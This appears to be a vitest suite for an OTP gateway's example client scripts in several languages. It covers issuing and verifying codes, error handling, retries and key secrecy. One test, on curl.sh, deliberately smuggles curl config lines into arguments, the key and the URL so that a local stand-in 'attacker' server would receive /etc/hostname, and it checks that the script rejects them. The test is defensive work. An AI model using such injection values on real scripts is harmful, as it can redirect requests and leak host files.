import { spawn, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import type { IncomingMessage } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { listen, type HttpServer } from "../../src/http/server.ts";
import { delivered, phone, putLimits } from "../support/erp.ts";
import { startTestGateway, type TestGateway } from "../support/gateway.ts";

/** The examples as an ERP's developer runs them, against a gateway that listens; those whose interpreter is here. */
const examples = fileURLToPath(new URL("../../examples/", import.meta.url));
const classes = fs.mkdtempSync(path.join(tmpdir(), "gerbang-java-"));
/** Nothing of the tests' own environment goes along: a proxy's address, say. */
const bare = { PATH: process.env["PATH"] ?? "", HOME: process.env["HOME"] ?? "", LANG: "C.UTF-8" };

interface Program {
  name: string;
  /** All must be here. */
  needs: string[];
  command: string[];
  prepare?: string[];
}

const programs: Program[] = [
  { name: "curl.sh", needs: ["sh", "curl"], command: ["sh", `${examples}curl.sh`] },
  { name: "php", needs: ["php"], command: ["php", `${examples}php/gerbang.php`] },
  {
    name: "php without its curl extension",
    needs: ["php"],
    command: ["php", "-d", "disable_functions=curl_init", `${examples}php/gerbang.php`],
  },
  { name: "python3", needs: ["python3"], command: ["python3", `${examples}python/gerbang.py`] },
  { name: "python2", needs: ["python2"], command: ["python2", `${examples}python/gerbang.py`] },
  {
    name: "java",
    needs: ["javac", "java"],
    prepare: [
      "javac",
      "-Xlint:-options",
      "-source",
      "8",
      "-target",
      "8",
      "-d",
      classes,
      `${examples}java/Gerbang.java`,
    ],
    command: ["java", "-cp", classes, "Gerbang"],
  },
];

/** Answers to anything at all, if only to refuse the word. */
const isHere = (command: string): boolean => {
  const { error, status } = spawnSync(command, ["-version"], { env: bare, stdio: "ignore", timeout: 20_000 });
  // 127: a stand-in that found no program behind it.
  return error === undefined && status !== 127;
};

let gateway: TestGateway;
let server: HttpServer;
/** Takes every request, but of each key loses the first answer and holds back the second. */
let lossy: HttpServer;
beforeAll(async () => {
  gateway = await startTestGateway();
  await putLimits(gateway);
  const local = { host: "127.0.0.1", port: 0 };
  server = await listen({ ...local, fetch: (request, env) => gateway.app.fetch(request, env) });
  const tries = new Map<string, number>();
  lossy = await listen({
    ...local,
    async fetch(request, env) {
      const key = request.headers.get("idempotency-key") ?? "";
      const n = (tries.get(key) ?? 0) + 1;
      tries.set(key, n);
      const reply = await gateway.app.fetch(request, env);
      if (n === 1) (env as { incoming: IncomingMessage }).incoming.socket.destroy();
      return n === 2 ? new Promise<Response>(() => undefined) : reply;
    },
  });
});
afterAll(async () => {
  await Promise.all([server.close(100), lossy.close(100)]);
  await gateway.close();
  fs.rmSync(classes, { recursive: true });
});

interface Run {
  exit: number | null;
  out: string;
  error: string;
}

function run([command = "", ...args]: string[], env: object = {}): Promise<Run> {
  const settings = { GERBANG_URL: server.url, GERBANG_KEY: gateway.erpKey, ...env };
  const child = spawn(command, args, { env: { ...bare, ...settings }, stdio: ["ignore", "pipe", "pipe"] });
  const output = { out: "", error: "" };
  child.stdout.on("data", (part: Buffer) => (output.out += part.toString()));
  child.stderr.on("data", (part: Buffer) => (output.error += part.toString()));
  return new Promise((resolve, reject) => {
    child.once("error", reject);
    child.once("close", (exit) => resolve({ exit, ...output }));
  });
}

const here = programs.filter(({ needs }) => needs.every(isHere));

beforeAll(async () => {
  for (const { prepare } of here) {
    if (prepare === undefined) continue;
    const made = await run(prepare);
    expect(made.exit, made.error).toBe(0);
  }
}, 60_000);

for (const { name, needs, command } of programs) {
  const missing = needs.filter((one) => !isHere(one));
  describe(missing.length === 0 ? name : `${name}, skipped: no ${missing.join(", ")} here`, () => {
    const on = test.skipIf(missing.length > 0);

    on("issues, is told of a wrong code, and verifies the right one", { timeout: 60_000 }, async () => {
      const to = phone();
      const issued = await run([...command, "issue", to, 'Búdi & "Wati" + 1%']);
      expect(issued, issued.error).toMatchObject({ exit: 0, out: expect.stringMatching(/^id=otp_[0-9a-f]{32}\n$/) });
      const id = issued.out.trim().slice("id=".length);
      expect((await gateway.request(`/v1/otp/${id}`)).json.user).toBe('Búdi & "Wati" + 1%');
      const { code } = await delivered(gateway, to);
      const wrong = await run([...command, "verify", id, code === "000000" ? "111111" : "000000"]);
      expect(wrong).toEqual({ exit: 1, out: "valid=false\nreason=wrong_code\n", error: "" });
      const right = await run([...command, "verify", id, code]);
      expect(right).toEqual({ exit: 0, out: "valid=true\n", error: "" });
    });

    on("names a refusal by its code, and never the key", { timeout: 60_000 }, async () => {
      const landline = await run([...command, "issue", "021 5550100", "budi"]);
      expect(landline).toMatchObject({ exit: 2, out: "" });
      expect(landline.error).toMatch(/^error=invalid_recipient\ndetail=.*mobile/);
      const stranger = await run([...command, "issue", phone(), "budi"], { GERBANG_KEY: "gbk_wrong_but_long_enough" });
      expect(stranger.exit).toBe(2);
      expect(stranger.error).toMatch(/^error=unauthorized\n/);
      expect(`${landline.error}${stranger.error}`).not.toMatch(new RegExp(`gbk_wrong|${gateway.erpKey}`));
    });
  });
}

// Mostly waiting, so all at once.
const all = here.map(({ name }) => name).join(", ") || "none of them is here";

test(`asked again with one key when an answer was lost or late: ${all}`, { timeout: 60_000 }, async () => {
  await Promise.all(
    here.map(async ({ name, command }) => {
      const user = `retry-${name}`;
      const env = { GERBANG_URL: lossy.url, GERBANG_TIMEOUT: "4" };
      const issued = await run([...command, "issue", phone(), user], env);
      expect(issued, `${name}: ${issued.error}`).toMatchObject({ exit: 0, out: expect.stringMatching(/^id=otp_/) });
      const otps = await gateway.database.sql`select 1 from otps where user_ref = ${user}`;
      expect(otps, name).toHaveLength(1);
    }),
  );
});

test(`nobody answers: ${all}`, { timeout: 60_000 }, async () => {
  await Promise.all(
    here.map(async ({ name, command }) => {
      // Nothing can listen there.
      const away = await run([...command, "issue", phone(), "budi"], { GERBANG_URL: "http://127.0.0.1:0" });
      expect(away, name).toMatchObject({ exit: 3, out: "", error: expect.stringContaining("error=unreachable") });
    }),
  );
});

// As a proxy answers whose gateway is away, and as one answers that wants a log-in first.
const proxies: [string, () => Response][] = [
  ["HTML", () => new Response("<html>502 Bad Gateway</html>", { status: 502 })],
  ["JSON", () => Response.json({ status: 502, error: "bad gateway", id: "1" }, { status: 502 })],
  ["a page of its own", () => Response.json({ login: "required" }, { status: 200 })],
];

test.each(proxies)(
  `a proxy answers with %s, which is neither an OTP nor a refusal: ${all}`,
  async (_, answer) => {
    let asked = 0;
    const fetch = (): Response => ((asked += 1), answer());
    const proxy = await listen({ host: "127.0.0.1", port: 0, fetch });
    await Promise.all(
      here.map(async ({ name, command }) => {
        const away = await run([...command, "issue", phone(), "budi"], { GERBANG_URL: proxy.url });
        expect(away, name).toMatchObject({ exit: 3, out: "", error: expect.stringMatching(/^error=unreachable$/m) });
      }),
    );
    expect(asked).toBe(3 * here.length);
    await proxy.close(100);
  },
  60_000,
);

const id = `otp_${"0".repeat(32)}`;
const misuses: [string, string[], object][] = [
  ["no arguments", [], {}],
  ["a verb that is not there", ["isue", "0812-3456-7890"], {}],
  ["no number", ["issue"], {}],
  ["no code", ["verify", id], {}],
  ["too many arguments", ["verify", id, "123", "456"], {}],
  ["no address", ["verify", id, "123456"], { GERBANG_URL: "" }],
  ["an address without its scheme", ["verify", id, "123456"], { GERBANG_URL: "127.0.0.1:8080" }],
  ["no key", ["verify", id, "123456"], { GERBANG_KEY: "" }],
  ["a key in two lines", ["verify", id, "123456"], { GERBANG_KEY: "gbk_wrong\nsecret" }],
];

test.each(misuses)(`called wrongly, %s: one line says so: ${all}`, { timeout: 60_000 }, async (_, words, env) => {
  await Promise.all(
    here.map(async ({ name, command }) => {
      const misused = await run([...command, ...words], env);
      expect(misused, name).toMatchObject({ exit: 64, out: "", error: expect.stringMatching(/^[^\n]+\n$/) });
      expect(misused.error).not.toContain("gbk_wrong");
    }),
  );
});

test(`an address may end with a slash, and a key with a line break: ${all}`, { timeout: 60_000 }, async () => {
  const env = { GERBANG_URL: `${server.url}/`, GERBANG_KEY: `${gateway.erpKey}\r\n` };
  await Promise.all(
    here.map(async ({ name, command }) => {
      const issued = await run([...command, "issue", phone(), "budi"], env);
      expect(issued, name).toMatchObject({ exit: 0, error: "", out: expect.stringMatching(/^id=otp_/) });
    }),
  );
});

test.skipIf(!here.some(({ name }) => name === "curl.sh"))("curl.sh takes no line break for an option", async () => {
  let reached = 0;
  const attacker = await listen({
    host: "127.0.0.1",
    port: 0,
    fetch: () => ((reached += 1), new Response("valid=true")),
  });
  const line = `1"\nurl = ${attacker.url}/x\ndata = @/etc/hostname #`;
  const sh = ["sh", `${examples}curl.sh`];
  const key = { GERBANG_KEY: `gbk_wrong\nurl = ${attacker.url}/x` };
  const runs = await Promise.all([
    run([...sh, "verify", id, line]),
    run([...sh, "verify", line, "123456"]),
    run([...sh, "issue", phone(), line]),
    run([...sh, "issue", phone(), "budi\r"]),
    run([...sh, "verify", id, "123456"], key),
    run([...sh, "verify", id, "123456"], { GERBANG_URL: `${server.url}\nurl = ${attacker.url}` }),
  ]);
  expect(runs.map(({ exit, out }) => [exit, out])).toEqual(runs.map(() => [64, ""]));
  // What an option looks like without a line break is a word like any other.
  const quoted = await run([...sh, "issue", phone(), 'a" url = "b\\n']);
  expect(quoted.exit, quoted.error).toBe(0);
  expect((await gateway.request(`/v1/otp/${quoted.out.trim().slice("id=".length)}`)).json.user).toBe('a" url = "b\\n');
  expect(reached).toBe(0);
  await attacker.close(100);
});

test.skipIf(!here.some(({ name }) => name === "python3"))("gerbang.py takes numbers, lists and yes or no", async () => {
  const program = [
    "import sys; sys.path.insert(0, sys.argv[1]); sys.dont_write_bytecode = True",
    "import os; from gerbang import Gerbang",
    "gerbang = Gerbang(os.environ['GERBANG_URL'], os.environ['GERBANG_KEY'])",
    "otp = gerbang.issue(sys.argv[2], ttl_seconds=60, channels=['sms', 'voice'], decoy=False, locale=None)",
    "print(otp['id'], gerbang.verify(otp['id'], 1234)['valid'])",
  ].join("\n");
  const called = await run(["python3", "-c", program, `${examples}python`, phone()]);
  expect(called, called.error).toMatchObject({ exit: 0, out: expect.stringMatching(/^\S+ False\n$/) });
});
